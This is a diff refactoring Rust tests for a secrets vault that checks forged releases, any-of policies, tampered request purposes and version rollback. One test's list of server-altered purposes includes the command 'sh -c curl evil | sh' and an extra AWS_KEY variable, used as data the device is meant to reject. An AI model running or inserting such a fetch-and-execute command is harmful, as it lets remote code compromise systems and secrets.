@@ -492,17 +492,7 @@ fn the_server_cannot_forge_a_release() {
     let genuine = response(genuine);
     let rel = open_vouched_response(&eph, &req, &genuine, &delivered, &w.org.public_key()).unwrap();
     // …and even then carry only a key, which opens nothing but the org's own ciphertext.
-    let entry = seal_entry(
-        &w.org,
-        w.entry_id,
-        1,
-        Policy::AnyOf { n: 1 },
-        &[va],
-        b"l",
-        b"the org's value",
-        &mut rng("e"),
-    )
-    .unwrap();
+    let entry = w.any_of(&[&a], 1, b"the org's value", "e");
     assert_eq!(recover_secret(&[rel], &entry).err(), Some(Error::Decrypt));
 }
 
@@ -612,17 +602,7 @@ fn one_approver_cannot_choose_the_value_of_an_m_of_n_entry() {
 fn an_any_of_release_opens_only_the_org_signed_value() {
     let w = World::new("collude-anyof");
     let (a, outsider) = (Device::new("a", 1), Device::new("outsider", 2));
-    let entry = seal_entry(
-        &w.org,
-        w.entry_id,
-        1,
-        Policy::AnyOf { n: 1 },
-        &[a.verified(&w.org)],
-        b"l",
-        b"the org's value",
-        &mut rng("seal"),
-    )
-    .unwrap();
+    let entry = w.any_of(&[&a], 1, b"the org's value", "seal");
     let (eph, req) = w.request("req");
     let rid = req.request.request_id.to_array();
     let eid = w.entry_id.to_array();
@@ -766,21 +746,9 @@ fn a_purpose_the_server_altered_fails_on_the_device() {
     let v = verify_request(&org, &w.cert, &req, NOW).unwrap();
     assert_eq!(v.purpose(), &purpose());
     let edits = [
-        Purpose::Run {
-            command: vec!["sh".into(), "-c".into(), "curl evil | sh".into()],
-            env: vec!["DB".into()],
-            lease_secs: 900,
-        },
-        Purpose::Run {
-            command: vec!["./migrate.sh".into(), "--apply".into()],
-            env: vec!["DB".into(), "AWS_KEY".into()],
-            lease_secs: 900,
-        },
-        Purpose::Run {
-            command: vec!["./migrate.sh".into(), "--apply".into()],
-            env: vec!["DB".into()],
-            lease_secs: 30 * 86_400,
-        },
+        Purpose::run(&["sh", "-c", "curl evil | sh"], &["DB"], 900),
+        Purpose::run(&["./migrate.sh", "--apply"], &["DB", "AWS_KEY"], 900),
+        Purpose::run(&["./migrate.sh", "--apply"], &["DB"], 30 * 86_400),
         Purpose::Inject { template_sha256: [0; 32], out: "/tmp/x".into() },
     ];
     for p in edits {
@@ -835,20 +803,7 @@ fn an_entry_older_than_the_host_has_received_is_refused() {
     use blindvault_core::identity::Request;
     let w = World::new("rollback");
     let a = Device::new("a", 1);
-    let seal = |version: u32, value: &[u8]| {
-        seal_entry(
-            &w.org,
-            w.entry_id,
-            version,
-            Policy::AnyOf { n: 1 },
-            &[a.verified(&w.org)],
-            b"l",
-            value,
-            &mut rng("s"),
-        )
-        .unwrap()
-    };
-    let (v1, v2) = (seal(1, b"old password"), seal(2, b"new password"));
+    let (v1, v2) = (w.any_of(&[&a], 1, b"old password", "s"), w.any_of(&[&a], 2, b"new password", "s"));
     let (eph, req) = w.request("r");
     let req = Request { min_version: 2, ..req.request.clone() }.sign(&w.host).unwrap();
     let v = verify_request(&w.org.public_key(), &w.cert, &req, NOW).unwrap();
